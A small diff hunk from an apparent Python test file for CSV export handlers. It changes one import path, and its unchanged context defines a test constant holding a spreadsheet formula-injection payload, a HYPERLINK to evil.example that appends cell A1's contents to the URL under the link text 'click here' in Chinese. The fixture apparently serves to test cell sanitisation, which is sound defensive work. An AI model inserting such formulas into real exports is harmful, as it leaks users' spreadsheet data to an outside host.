@@ -9,7 +9,7 @@ import pytest
 
 from handlers.cells import safe_cell
 from handlers.programme.coverage import CoverageReport, MissingUnit, QuietBrand, as_csv
-from handlers.recognition.report import csv_text
+from handlers.recognition.report_text import csv_text
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
 
